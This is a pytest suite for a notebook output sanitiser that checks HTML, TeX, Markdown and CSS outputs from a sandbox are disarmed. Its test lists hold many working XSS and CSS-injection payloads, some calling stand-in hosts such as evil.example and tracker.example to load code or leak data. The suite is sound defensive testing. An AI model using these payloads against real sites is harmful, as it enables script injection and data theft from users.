"""What may come out of a sandbox, seen by an attacker and by somebody who only wants a table."""

from __future__ import annotations

import base64
import gzip
import json
import random
import re
import time
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from chorus_nb import frame
from chorus_nb.agent.wire import Message
from chorus_nb.config import OutputPolicy
from chorus_nb.errors import AgentProtocolError
from chorus_nb.markup import clean_html
from chorus_nb.outputs import MAX_ERROR_LINES, OutputFilter
from chorus_nb.page import OutputPage
from chorus_nb.sanitize import clean_latex, clean_markdown, clean_text
from chorus_nb.stylesheets import clean_sheet

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"pixels").decode()
FORBIDDEN_TAGS = """
    script iframe frame object embed applet form input button textarea select meta base link style svg math
    video audio source track portal dialog template slot area map canvas marquee noscript
"""
ALLOWED_LINKS = {"http", "https"}


def admit(msg_type: str, *, limit: int = 10 * 2**20, **content: Any) -> dict[str, Any] | None:
    message = OutputFilter(OutputPolicy(max_bytes=limit), OutputPage("s1-")).admit(
        Message(msg_type=msg_type, content=content)
    )
    return None if message is None else message.content


def show(**data: Any) -> dict[str, Any]:
    """Return what is left of a display whose MIME types are written as ``text__html``."""
    bundle = {mime.replace("__", "/"): value for mime, value in data.items()}
    content = admit("display_data", data=bundle, metadata={})
    return content["data"] if content else {}


BOXED_TAGS = "svg input label button"
SVG_TAGS = "svg g defs symbol use path rect circle ellipse line polyline polygon text tspan"


class Inspector(HTMLParser):
    """Reads HTML the way a page would, and lists everything that could act, load or reach beyond the output."""

    def __init__(self, html: str, boxed: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.texts: list[str] = []
        self.boxed = boxed
        self._depth = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._depth += tag == "div"
        allowed = BOXED_TAGS.split() if self.boxed else []
        if tag in FORBIDDEN_TAGS.split() and tag not in allowed:
            self.faults.append(f"<{tag}>")
        if tag in ("input", "button") and dict(attrs).get("type") not in ("checkbox", "button"):
            self.faults.append(f"{tag} {attrs}")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self._depth -= tag == "div"
        if self._depth < 0:
            self.faults.append("</div> of something else")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith(("on", "data-")) or name in {"name", "srcdoc", "srcset", "ping", "form", "autofocus"}:
            self.faults.append(f"{tag} {name}")
        if name in ("id", "for") and not re.fullmatch(r"sandbox-[\w-]+", value):
            self.faults.append(f"{tag} {name}")
        if name == "id" and tag in SVG_TAGS.split() and tag != "symbol":
            self.faults.append(f"{tag} {name}")
        if tag == "use" and name in ("href", "xlink:href"):
            if not re.fullmatch(r"#sandbox--[0-9a-f]{8}-[\w-]+", value):
                self.faults.append(f"{tag} {name}={value}")
        elif name in {"href", "action", "formaction", "xlink:href", "background", "poster", "cite"}:
            scheme = urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme.lower()
            if tag != "a" or scheme not in ALLOWED_LINKS:
                self.faults.append(f"{tag} {name}={value}")
        if name == "src" and not re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,[A-Za-z0-9+/=]+$", value):
            self.faults.append(f"{tag} src={value}")
        beyond = "" if self.boxed else "position|z-index|transform|margin|"
        if name == "style" and re.search(rf"{beyond}url|expression|behavior|import|@|\\", value):
            self.faults.append(f"{tag} style={value}")
        if tag in SVG_TAGS.split() and re.search(r"url|javascript|data:", value):
            self.faults.append(f"{tag} {name}={value}")
        if name == "class" and re.search(
            r"(^|\s)(?!sandbox-)\S*(jp-|lm-|modal|mathjax_process|tex2jax_process)|(^|\s)sandbox--", value
        ):
            self.faults.append(f"{tag} class={value}")


FRAME = re.compile(
    r'<div class="mathjax_ignore tex2jax_ignore"><iframe sandbox="allow-scripts" style="[-\w:;% ]*" '
    r'srcdoc="(?P<outer>[^"<>]*)"><pre>(?P<text>[^<>$\\]*)</pre></iframe><script>(?P<script>.*)</script></div>',
    re.DOTALL,
)
FRAME_FILES = Path(frame.__file__).parent
# What one line of a cleaned style sheet may be: a rule of the output's own elements, a condition, its end.
SHEET_LINE = re.compile(
    r"(((:root|html|body)[^{}<>,:]* )?:where\(\.sandbox--?[0-9a-f]{12}\)( [^{}<>]+?)?(, )?)+ \{[^{}<>@\\]*\}"
    r"|@(media|supports) \([-\w: .]+\) \{|\}"
)
WRAPPED = re.compile(
    r'<div class="sandbox-(?P<boxed>-?)[0-9a-f]{12} jp-RenderedHTMLCommon" '
    r'style="(?:overflow-y: clip|(?P<box>contain: paint; overflow: auto)); margin: 0; padding: 0">'
    r"(?:<style>\n(?P<sheet>[^<]*)\n</style>\n)?(?P<content>.*)</div>",
    re.DOTALL,
)


def framed_content(html: str) -> str | None:
    """Return what a frame has in it, after our own part, or None where HTML is not exactly one of our frames."""
    match = FRAME.fullmatch(html)
    if not match or match["script"] != (FRAME_FILES / "page.js").read_text():
        return None
    before, after = (FRAME_FILES / "outer.html").read_text().split("PARTS")
    outer = unescape(match["outer"])
    assert outer.startswith(before)
    assert outer.endswith(after)
    parts = outer.removeprefix(before).removesuffix(after)
    assert re.fullmatch(r'\["[A-Za-z0-9+/=]+"(, "[A-Za-z0-9+/=]+")+\]', parts)
    _, *content = (gzip.decompress(base64.b64decode(part)).decode() for part in json.loads(parts))
    return "".join(content)


def faults(html: str) -> list[str]:
    """List what of HTML could act in the page: nothing where it is one of our frames, or a style sheet of its own."""
    if framed_content(html) is not None:
        return []
    wrapped = WRAPPED.fullmatch(html)
    if wrapped is None:
        return Inspector(html).faults
    assert bool(wrapped["boxed"]) == bool(wrapped["box"]), "what is named as a box is one"
    lines = (wrapped["sheet"] or "}").split("\n")
    wrong = [line for line in lines if not SHEET_LINE.fullmatch(line) or re.search(r"url\((?!data:)|/\*", line)]
    return wrong + Inspector(wrapped["content"], boxed=bool(wrapped["box"])).faults


HTML_ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="data:image/png;base64,' + PNG + '" onload="alert(1)">',
    "<img src=https://tracker.example/p.gif>",
    "<img src=//tracker.example/p.gif>",
    "<img src=/api/contents>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/png;base64,PHNjcmlwdD4=">',
    '<img srcset="https://tracker.example/p.png 2x" src="data:image/png;base64,' + PNG + '">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/lab/api/kernels" ping="https://tracker.example">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
    "<svg onload=alert(1)>x",
    "<svg><script>alert(1)</script></svg>x",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>x",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>x",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>x",
    "<iframe src=javascript:alert(1)></iframe>x",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>x',
    "<object data=javascript:alert(1)></object>x",
    "<embed src=//evil.example/x.swf>x",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex action=javascript:alert(1) type=image>x",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">x',
    "<base href=//evil.example/>x",
    "<link rel=stylesheet href=//evil.example/x.css>x",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>x",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">log in again</div>',
    '<div style="color:red;/**/position:/**/fixed">x</div>',
    '<div style="p\\6fsition:fixed">x</div>',
    '<div style="background:url(//tracker.example/p)">x</div>',
    '<div style="background-color:url(//tracker.example/p)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="border:1px solid;margin:-900px;transform:scale(99)">x</div>',
    "<div style=\"font-family:'x;position:fixed;'\">x</div>",
    '<div class="jp-Dialog lm-Widget dataframe">x</div>',
    '<div class="mathjax_process tex2jax_process">x</div>',
    "<div data-commandlinker-command=terminal:create-new data-commandlinker-args={}>x</div>",
    '<img name=getElementById alt=x><p id="jupyter-config-data">x</p>',
    "<a id=jupyterapp name=defaultView>x</a>",
    "<video><source onerror=alert(1)></video>x",
    "<audio src=x onerror=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x</body>",
    "<table background=javascript:alert(1)><td>x</td></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>x",
    "<select><template><script>alert(1)</script></template></select>x",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">x',
    "<!--><img src=x onerror=alert(1)>-->x",
    "<!--[if IE]><script>alert(1)</script><![endif]-->x",
    "<![CDATA[<img src=x onerror=alert(1)>]]>x",
    "<?xml-stylesheet href=javascript:alert(1)?>x",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>x",
    "<plaintext><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<<img src=x onerror=alert(1)>>x",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<map name=x><area href=javascript:alert(1)></map>x",
    "<dialog open>x</dialog>",
    "<p is=x-script slot=x contenteditable accesskey=x tabindex=0 onkeydown=alert(1)>x</p>",
    "<button popovertarget=x>x</button><p popover>x</p>",
    "<button type=submit formaction=javascript:alert(1) form=x name=y value=z>x</button>",
    "<button command=show-modal commandfor=x>x</button>",
    "<input type=image src=x onerror=alert(1)>x",
    "<input type=checkbox name=cookie form=login value=1 autofocus onfocus=alert(1)>x",
    "<input type=checkbox type=image formaction=javascript:alert(1) src=x>x",
    '<input type="checkbox" id="jupyter-config-data"><label for="jupyter-config-data">x</label>',
    '<label for="jp-main-dock-panel" onclick="alert(1)">x</label>',
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></use></svg>x",
    "<svg><use xlink:href=//evil.example/x.svg#x></use></svg>x",
    "<svg><use href=javascript:alert(1)></use></svg>x",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>x",
    "<svg><set attributeName=href to=javascript:alert(1)></set><a><text>x</text></a></svg>",
    "<svg><image href=//tracker.example/p.png></image><feImage href=//tracker.example/p.png></feImage></svg>x",
    "<svg><rect fill=url(//tracker.example/p.svg#x) style=filter:url(//tracker.example/f.svg#x) /></svg>x",
    "<svg><style>*{background:url(//tracker.example/p)}</style><path d=M0/></svg>x",
    "<svg><title><style><img src=x onerror=alert(1)></style></title><path d=M0 /></svg>x",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'></svg>x",
    "<svg><desc><noscript><p title='</noscript><img src=x onerror=alert(1)>'></desc></svg>x",
    "<svg><g><![CDATA[</g></svg><img src=x onerror=alert(1)>]]></g></svg>x",
    "<svg><text>\\href{javascript:alert(1)}{x}</text></svg>",
    '<svg id=jupyterapp><g id=defaultView><path id=x d="M0 0"/></g></svg>x',
    "<svg><foreignObject><form id=x></form></foreignObject><rect/></svg><input form=x formaction=javascript:alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>x",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>x",
    "</div></div><p style='position:fixed;inset:0'>log in again</p>",
    "<table><div></table></div></div><p style='position:fixed;inset:0'>log in again</p>",
    "<p style='background:red,image-set(\"//tracker.example/p\" 1x)'>x</p>",
    "<p style='background:0,url(\"//tracker.example/p\")'>x</p>",
    "<p style='cursor:url(//tracker.example/p),auto'>x</p>",
    "<p style='content:attr(title);--x:url(//tracker.example/p)'>x</p>",
    "<p style='width:1px/*;*/;position:fixed'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)'>x</p>",
    "<style>input[value^=a]{background:url(//tracker.example/a)}</style><input value=abc>x",
    "<style>p{color:red/*}</style><style>*/}body{display:none}</style><p>x</p>",
    "<style>p{background:url(data:image/svg+xml,<svg/onload=alert(1)>)}</style><p>x</p>",
    "<style>@font-face{font-family:x;src:url(//tracker.example/f)}p{font-family:x}</style><p>x</p>",
    "<style>@media all{}body{display:none}</style><p>x</p>",
    "<style>:root{position:fixed;inset:0}html{--x:1;display:none}</style><p>x</p>",
    "<style>body .jp-Cell,html .x{position:fixed}</style><p class=x>x</p>",
    "<style>p{color:red;}}body{display:none}</style><p>x</p>",
    "<div class='-0123456789ab sandbox--0123456789ab'>x</div>",
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_that_attacks_the_page_is_disarmed(attack: str) -> None:
    for html in (attack, f"<div><p>before</p>{attack}<p>after</p></div>", f"<table><tr><td>{attack}"):
        shown = show(text__html=html, text__plain="<fallback>")
        assert shown["text/plain"] == "<fallback>"
        assert not faults(shown.get("text/html", ""))
        assert "alert(1)</script" not in shown.get("text/html", "")


def test_the_inspector_sees_what_it_is_there_for() -> None:
    """The check above is worth something only if it fails on attacks that were let through."""
    missed = [attack for attack in HTML_ATTACKS if not faults(attack)]
    assert len(missed) < len(HTML_ATTACKS) // 4, missed


@given(st.lists(st.sampled_from(HTML_ATTACKS), min_size=2, max_size=4), st.data())
def test_no_mixture_of_attacks_gets_through(attacks: list[str], data: st.DataObject) -> None:
    cut = [attack[: data.draw(st.integers(0, len(attack)))] for attack in attacks]
    source = "".join(cut)
    assert not faults(clean_html(source) or "")
    assert not faults(show(text__html=source).get("text/html", ""))


TEX_ATTACKS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"\(\url{javascript:alert(1)}\)",
    r"$$\class{jp-Dialog}{x}$$",
    r"\begin{equation}\style{position:fixed;top:0}{x}\end{equation}",
    r"$\cssId{jupyter-config-data}{x}$",
    r"$\require{html}$",
    r"$\unicode[evil]{x41}$",
    r"$\bbox[position:fixed]{x}$",
    r'$\mmlToken{mi}[href="javascript:alert(1)"]{x}$',
    r"$\def\alpha{\href}$",
    r"$\newcommand{\x}{\href}$",
    r"$\let\x\href$",
    r"$\data{commandlinker-command=x}{x}$",
    r"$\includegraphics{//tracker.example/p.png}$",
    r"$\&#104;ref{javascript:alert(1)}{x}$",
    r"$&#92;href{javascript:alert(1)}{x}$",
    "$\\hr\x01ef{javascript:alert(1)}{x}$",
]


@pytest.mark.parametrize("attack", TEX_ATTACKS)
def test_tex_that_attacks_the_page_is_disarmed(attack: str) -> None:
    assert "text/latex" not in show(text__latex=attack, text__plain="x")
    assert "text/markdown" not in show(text__markdown=attack, text__plain="x")
    html = clean_html(f"<p>{attack}</p>") or ""
    # MathJax reads each run of text between elements by itself.
    commands = [name for text in Inspector(html).texts for name in re.findall(r"\\([A-Za-z]+)", text)]
    assert set(commands) <= {"alpha", "x", "begin", "end"} - {"x"}


@pytest.mark.parametrize("joiner", ["<!-- -->", "<blink></blink>", "<wbr>", "<script></script>"])
def test_a_tex_command_is_not_hidden_by_what_the_sanitiser_removes(joiner: str) -> None:
    html = clean_html(rf"<p>$\hr{joiner}ef{{javascript:alert(1)}}{{x}}$</p>") or ""
    assert not any("\\href" in text for text in Inspector(html).texts)


@pytest.mark.parametrize(
    "source",
    [
        r"$\displaystyle \frac{x^{2}}{\sqrt{y}} + \int\limits_{0}^{\infty} e^{- t}\, dt$",
        r"$$\begin{bmatrix}1 & 2\\3 & 4\end{bmatrix}$$",
        r"\begin{align} a &= b \\ \operatorname{atan}{\left(x \right)} &= \mathbb{R} \end{align}",
    ],
)
def test_tex_as_sympy_writes_it_passes_unchanged(source: str) -> None:
    assert show(text__latex=source, text__plain="x") == {"text/latex": source, "text/plain": "x"}
    assert "<span>" not in (clean_html(f"<p>{source}</p>") or "")


def test_refused_tex_and_markdown_show_their_source() -> None:
    assert show(text__latex=r"$\href{x}{y}$", text__plain="<Latex object>") == {"text/plain": r"$\href{x}{y}$"}
    assert show(text__markdown="![x](y)", text__plain="<Markdown object>") == {"text/plain": "![x](y)"}


MARKDOWN_ATTACKS = [
    "<script>alert(1)</script>",
    "a <img src=x onerror=alert(1)> b",
    "<\x00script>alert(1)</script>",
    "<\x1b]0;x\x07script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x] (javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\njavascript:alert(1)",
    "[x](data:text/html,x)",
    "[x](/lab/api)",
    "<javascript:alert(1)>",
    "![x](https://tracker.example/p.png)",
    "![x][r]\n\n[r]: https://tracker.example/p.png",
    '[x](https://a.example/$" onmouseover="alert(1)$)',
    'https://a.example/$" onmouseover="alert(1)$',
    '```$" onmouseover="alert(1)$\nx\n```',
    "```mermaid\ngraph TD\n```",
    "~~~ mermaid\ngraph TD\n~~~",
    r"\\(\\href{javascript:alert(1)}{x}\\)",
]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_that_attacks_the_page_is_refused(attack: str) -> None:
    assert clean_markdown(attack) is None
    assert clean_markdown(f"# Title\n\ntext {attack} text") is None


def test_plain_markdown_passes_unchanged() -> None:
    text = "# Title\n\n*a* **b** `c < d` [link](https://example.org/a) and $\\alpha + x_1$\n"
    text += "\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    assert clean_markdown(text) == text


@pytest.mark.parametrize(
    "mime",
    [
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.jupyter.widget-state+json",
        "application/vnd.plotly.v1+json",
        "application/vnd.vega.v5+json",
        "application/pdf",
        "application/geo+json",
        "text/vnd.mermaid",
        "video/mp4",
        "image/tiff",
        "TEXT/HTML",
        "text/html; charset=utf-8",
        "<script>alert(1)</script>",
    ],
)
def test_other_types_are_dropped_and_named_while_their_text_stays(mime: str) -> None:
    outputs = OutputFilter(OutputPolicy(), OutputPage("s1-"))
    content = {"data": {mime: "alert(1)", "text/plain": "Figure"}, "metadata": {mime: {"isolated": True}}}
    message = outputs.admit(Message(msg_type="display_data", content=content))
    assert message is not None
    assert message.content == {"data": {"text/plain": "Figure"}, "metadata": {}}
    notice = outputs.notice() or ""
    assert "<" not in notice
    assert mime in notice or "an unknown type" in notice


def test_nothing_is_said_of_a_type_that_a_picture_stands_in_for() -> None:
    outputs = OutputFilter(OutputPolicy(), OutputPage("s1-"))
    data = {"application/vnd.plotly.v1+json": {}, "image/png": PNG, "text/plain": "Figure"}
    outputs.admit(Message(msg_type="display_data", content={"data": data, "metadata": {}}))
    assert outputs.notice() is None


def test_a_dataframe_looks_as_it_does_in_the_notebook() -> None:
    table = pd.DataFrame({"name": ["a<b", "<script>alert(1)</script>"], "n": [1, 2]})
    shown = show(text__html=table._repr_html_(), text__plain=str(table))["text/html"]
    assert '<table border="1" class="dataframe">' in shown
    assert '<tr style="text-align: right">' in shown
    assert "a&lt;b" in shown
    assert re.search(r":where\(\.sandbox-\w+\) \.dataframe thead th \{text-align: right\}", shown)
    assert "".join(Inspector(shown.partition("</style>")[2]).texts).split() == [
        "name",
        "n",
        "0",
        "a<b",
        "1",
        "1",
        "<script>alert(1)</script>",
        "2",
    ]
    assert not faults(shown)


def test_a_dataframe_with_groups_keeps_its_spans() -> None:
    table = pd.DataFrame({("a", "x"): [1], ("a", "y"): [2]})
    assert 'colspan="2"' in show(text__html=table.to_html())["text/html"]


def test_a_styled_dataframe_keeps_its_style_sheet_under_names_of_its_own() -> None:
    style = pd.DataFrame({"a": [1, 2]}).style.set_uuid("x").highlight_max(color="red").bar(color="#123456")
    shown = show(text__html=style.to_html())["text/html"]
    assert re.search(
        r"#sandbox-T_x_row1_col0 \{background-color: red; width: 10em; background: linear-gradient\(", shown
    )
    assert '<td id="sandbox-T_x_row1_col0" class="data row1 col0">' in shown
    assert not faults(shown)


@pytest.mark.parametrize(
    "sheet",
    [
        "@import url(//evil.example)",
        "p {color: red} body {display: none} @media all {p {color: blue}}",
        "p {background: url(//evil.example/p)}",
        "p {background: image-set('//evil.example/p')}",
        "p {color: red; } </style><script>alert(1)</script>",
        "+ div {color: red}",
        "~ .jp-Cell {color: red}",
        "> p, ~ div {color: red}",
        "p:has(~ div) {color: red}",
        "[data-token^=a] {color: red}",
        "p {color: red",
        "p {color: expression(alert(1))}",
        "p {c\\olor: red}",
        "p {--x: url(//evil.example)}",
        "p {background: 0,url('//evil.example/p')}",
        "p {background: red, -webkit-image-set('//evil.example/p' 1x)}",
        "p {content: attr(title)}",
        "p {content: 'a\\62 c'}",
        "p {content: '<'}",
        "p {content: 'x}",
        "p {animation: x 1s}",
        "@keyframes x {from {color: red}}",
        "@font-face {font-family: x; src: url(//evil.example/f)}",
        "@media (x) {p {color: red}",
        "p {color: red}}",
        "body > p:not(:has(x)) {color: red}",
        "p {cursor: url(data:image/png;base64,iVBORw0KGgo=)}",
        "p {filter: url(data:image/svg+xml;base64,PHN2Zy8+)}",
        "p {--a: var(--b) var(--b)} b {--b: var(--a) var(--a)}",
        "p {" + "".join(f"--a{n}: var(--a{n + 1}) var(--a{n + 1}) 0;" for n in range(30)) + "--a30: 0123456789}",
        "p {--a: ';' " + "var(--b) " * 8 + "; --b: " + "x" * 1000 + "}",
        "p {color: " + "calc(" * 20 + "1" + ")" * 20 + "}",
    ],
)
def test_a_style_sheet_that_may_do_more_goes_into_a_frame(sheet: str) -> None:
    shown = show(text__html=f"<style>{sheet}</style><p class=jp-Cell>x</p>")["text/html"]
    content = framed_content(shown)
    assert content is not None
    assert sheet.split("</style>")[0] in content


@pytest.mark.parametrize(
    ("selector", "clean"),
    [
        ("body", ":where(.S) body"),
        ("*", ":where(.S) *"),
        ("p, .jp-Cell > p", ":where(.S) p, :where(.S) .sandbox-jp-Cell > p"),
        (".dataframe tr:nth-child(2n + 1):hover", ":where(.S) .dataframe tr:nth-child(2n + 1):hover"),
        ("a#x.y ~ b", ":where(.S) a#sandbox-o-x.sandbox-y ~ b"),
        ("a:not(.x, #y):checked + b::before", ":where(.S) a:not(.sandbox-x, #sandbox-o-y):checked + b::before"),
        ("html[data-theme=dark] .x", "html[data-theme=dark] :where(.S) .sandbox-x"),
        ("html[data-secret^=a] .x", None),
        ("html > .x", ":where(.S) html > .sandbox-x"),
        (":root", None),
    ],
)
def test_rules_apply_below_their_own_output_only(selector: str, clean: str | None) -> None:
    expected = clean and f"{clean} {{color: red}}"
    assert clean_sheet(f"{selector} {{ color: red; }}", "S", "o-") == expected


def test_a_rule_of_the_page_s_root_gives_an_output_custom_properties_and_nothing_else() -> None:
    sheet = "html[theme='dark'], body.vscode-dark {--x: red}".replace("'", '"')
    assert clean_sheet(sheet, "S", boxed=True) == (
        'html[theme="dark"] :where(.S), body.vscode-dark :where(.S) {--x: red}'
    )
    assert clean_sheet("body {--x: red; color: red}", "S", boxed=True) == ":where(.S) body {--x: red; color: red}"


def test_rules_under_a_condition_stay_under_it() -> None:
    dark = "@media (prefers-color-scheme: dark)"
    assert clean_sheet(f"{dark} {{ p {{ color: red }} }}", "S") == f"{dark} {{\n:where(.S) p {{color: red}}\n}}"
    assert clean_sheet(f"p {{ color: red; {dark} {{ color: blue }} }}", "S") == (
        f":where(.S) p {{color: red}}\n{dark} {{\n:where(.S) p {{color: blue}}\n}}"
    )


@pytest.mark.parametrize("mime", ["application/javascript", "text/javascript"])
def test_javascript_runs_in_a_frame_with_its_element(mime: str) -> None:
    code = "element.textContent = '</script><b>'"
    shown = show(**{mime.replace("/", "__"): code, "text__plain": "<$x$ & \\href>"})
    content = framed_content(shown["text/html"]) or ""
    assert json.dumps(code).replace("<", "\\u003c") in content
    assert "<pre>&lt;&#36;x&#36; &amp; &#92;href&gt;</pre>" in shown["text/html"]


def test_html_that_would_lose_something_goes_whole_into_a_frame() -> None:
    source = "<div id=chart></div><script>draw('chart')</script>"
    shown = show(text__html=source, text__plain="Chart")
    assert framed_content(shown["text/html"]) == source
    assert shown["text/plain"] == "Chart"
    assert show(text__html=source, text__plain="Chart") == shown, "the same output is the same again, for nbval"


def test_a_library_is_put_into_every_later_frame_of_the_session_and_no_other() -> None:
    page = OutputPage("s1-")
    library = f"<script>window.Library = {{}}; /* {'x' * 2**15} */</script>"
    figure = "<div id=f></div><script>Library.draw('f')</script>"

    def display(page: OutputPage, **data: str) -> str | None:
        bundle = {mime.replace("__", "/"): value for mime, value in data.items()}
        message = Message(msg_type="display_data", content={"data": bundle, "metadata": {}})
        shown = OutputFilter(OutputPolicy(), page).admit(message)
        return framed_content(shown.content["data"]["text/html"]) if shown else None

    assert display(page, text__html=library) is None
    assert display(page, text__html=library) is None, "once is enough"
    assert display(page, text__html=figure) == library + figure
    assert display(page, application__javascript="Library.draw()", text__plain="x").startswith(library)  # type: ignore[union-attr]
    assert display(page, text__html="<marquee>no script</marquee>") == "<marquee>no script</marquee>"
    assert display(OutputPage("s2-"), text__html=figure) == figure


def test_libraries_of_a_session_are_bounded() -> None:
    page = OutputPage("")
    outputs = OutputFilter(OutputPolicy(max_bytes=2**30), page)
    for number in range(40):
        noise = base64.b64encode(random.Random(number).randbytes(2**20)).decode()
        outputs.admit(Message("display_data", {"data": {"text/html": f"<script>'{noise}'</script>"}, "metadata": {}}))
    outputs = OutputFilter(OutputPolicy(), page)
    shown = outputs.admit(Message("display_data", {"data": {"text/html": "<script>x</script>"}, "metadata": {}}))
    assert shown is not None
    assert 2**23 < len(shown.content["data"]["text/html"]) < 2**25


def test_an_empty_element_waits_for_the_script_that_fills_it() -> None:
    outputs = OutputFilter(OutputPolicy(), OutputPage(""))
    place = {"text/html": '<div id="p1" data-root-id="7"></div>'}
    assert outputs.admit(Message("display_data", {"data": place, "metadata": {}})) is None
    code = {"application/javascript": "draw('p1')"}
    shown = outputs.admit(Message("display_data", {"data": code, "metadata": {}}))
    assert shown is not None
    assert (framed_content(shown.content["data"]["text/html"]) or "").startswith(place["text/html"])


@pytest.mark.parametrize("html", ["<svg><image href='x'/></svg>", "<canvas></canvas>"])
def test_a_drawing_without_a_word_is_seen(html: str) -> None:
    assert framed_content(show(text__html=html)["text/html"]) == html


@pytest.mark.timeout(20)
@pytest.mark.parametrize("piece", ["<!--", "<script>", "<link ", "<style", "</script>", "<div>", "<!-- -->"])
def test_html_is_told_apart_in_linear_time(piece: str) -> None:
    show(text__html=piece * 500_000, text__plain="x")


def test_trusted_passes_every_type_as_it_is_and_text_only_text() -> None:
    data = {"text/html": "<script>run()</script>", "application/vnd.x+json": {"a": [1]}, "text/plain": "x"}
    message = Message("display_data", {"data": data, "metadata": {}})
    trusted = OutputFilter(OutputPolicy(mode="trusted"), OutputPage("")).admit(message)
    assert trusted is not None
    assert trusted.content["data"] == data
    text = OutputFilter(OutputPolicy(mode="text"), OutputPage("")).admit(message)
    assert text is not None
    assert text.content["data"] == {"text/plain": "x"}
    bounded = OutputFilter(OutputPolicy(mode="trusted", max_bytes=1024), OutputPage(""))
    assert bounded.admit(Message("display_data", {"data": {"text/html": "x" * 5000}, "metadata": {}})) is None
    assert "dropped" in (bounded.notice() or "")


def test_a_link_to_the_web_opens_apart() -> None:
    html = clean_html('<a href="https://example.org/?a=1&amp;b=2">x</a>') or ""
    assert 'href="https://example.org/?a=1&amp;b=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer"' in html


def test_html_with_nothing_to_see_falls_back_to_text() -> None:
    assert show(text__html="<div><p></p></div>", text__plain="Plot") == {"text/plain": "Plot"}
    assert admit("display_data", data={"text/html": "<div></div>"}, metadata={}) is None


def test_an_inline_picture_stays_in_html() -> None:
    assert clean_html(f'<img width="9" src="data:image/png;base64,{PNG}">') == (
        f'<img width="9" src="data:image/png;base64,{PNG}">'
    )


def test_svg_becomes_a_picture() -> None:
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
    shown = show(**{"image__svg+xml": svg, "text__plain": "Graph"})
    assert shown.keys() == {"text/html", "text/plain"}
    assert not Inspector(shown["text/html"]).faults
    data = shown["text/html"].partition("base64,")[2].partition('"')[0]
    assert base64.b64decode(data).decode() == svg


def test_a_picture_is_passed_in_canonical_base64() -> None:
    assert show(image__png=f"{PNG[:8]}\n{PNG[8:]}\n", text__plain="x")["image/png"] == PNG


@pytest.mark.parametrize("data", ["", "!", '"><script>', base64.b64encode(b"<svg/>").decode(), PNG[:-1], "é"])
def test_what_is_no_picture_is_dropped(data: str) -> None:
